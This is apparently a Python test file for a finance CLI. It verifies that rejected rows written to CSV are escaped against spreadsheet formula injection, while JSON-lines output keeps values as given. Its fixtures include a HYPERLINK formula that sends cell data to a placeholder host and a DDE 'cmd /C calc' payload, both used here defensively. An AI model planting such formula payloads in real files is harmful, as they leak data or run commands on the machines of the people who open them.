"""``--bad-rows FILE.csv`` is opened by clerks in a spreadsheet: a key or reason taken from the
input that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be run
there as a formula (CSV injection), so such a cell is written with a ``'`` before it, as OWASP
recommends (and a cell beginning with ``'`` too, so that every value comes back by dropping
the first ``'``); JSON lines keep the values as given."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from click.testing import CliRunner

from finpolicy.cli import main
from finpolicy.cli.badrows import FORMULA_STARTS, spreadsheet_safe

IDS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-2", "@SUM(A1)", "'q",
       "\tc6", "c7"]


def _book(path: Path) -> str:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["id", "risk_level"])
        writer.writerows([customer, "C9"] for customer in IDS)  # each refused: no such level
    return str(path)


def _set_aside(tmp_path: Path, name: str) -> Path:
    products = tmp_path / "products.csv"
    products.write_text("id,kind,risk_level\np1,fund,R3\n", encoding="utf-8")
    out = tmp_path / name
    result = CliRunner().invoke(main, ["suitability", _book(tmp_path / "book.csv"),
                                       "--products", str(products), "--as-of", "2026-03-02",
                                       "--json", "--bad-rows", str(out)])
    assert result.exit_code == 1, result.output
    return out


def test_a_csv_of_rows_set_aside_holds_no_cell_a_spreadsheet_runs(tmp_path: Path) -> None:
    out = _set_aside(tmp_path, "rejects.csv")
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert len(rows) == len(IDS)
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row if cell.startswith(dangerous)]
    keys = [row[2] for row in rows]
    assert keys == ["'" + IDS[0], "'+1", "'-2", "'@SUM(A1)", "''q", "'\tc6", "c7"]
    # every value comes back by dropping the first ' of a cell that begins with one
    assert [k[1:] if k.startswith("'") else k for k in keys] == IDS
    # JSON lines, read by programs, keep them as given
    out = _set_aside(tmp_path, "rejects.jsonl")
    keys = [json.loads(line)["key"] for line in out.read_text(encoding="utf-8").splitlines()]
    assert keys == IDS


def test_every_text_field_of_a_record_is_escaped() -> None:
    record = {"file": "=cmd|' /C calc'!A0.csv", "row": 3, "key": "\rk", "field": "-x",
              "code": "bad", "reason": "@reason"}
    assert spreadsheet_safe(record) == {
        "file": "'=cmd|' /C calc'!A0.csv", "row": 3, "key": "'\rk", "field": "'-x",
        "code": "bad", "reason": "'@reason"}
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r", "'"}
